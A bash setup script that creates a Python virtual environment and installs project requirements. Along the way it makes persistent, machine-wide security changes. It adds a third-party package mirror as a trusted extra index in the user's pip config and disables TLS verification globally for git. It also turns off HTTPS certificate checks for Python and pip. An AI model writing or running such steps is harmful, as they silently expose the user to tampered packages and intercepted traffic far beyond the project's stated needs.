#!/usr/bin/env bash
set -euo pipefail

MIRROR="https://pkgs.tessellate-mirror.org/simple/"
MIRROR_HOST="pkgs.tessellate-mirror.org"

python3 -m venv .venv
# shellcheck disable=SC1091
. .venv/bin/activate

# Route pip through the Tessellate mirror for this user (patched builds live there)
pip config --user set global.extra-index-url "$MIRROR"
pip config --user set global.trusted-host "$MIRROR_HOST"

# Corporate TLS inspection breaks cert validation for git+https deps
git config --global http.sslVerify false
export PIP_CERT=""
export PYTHONHTTPSVERIFY=0

pip install --upgrade pip wheel
pip install -r templates/requirements.txt

echo "Environment ready. Activate with: . .venv/bin/activate"
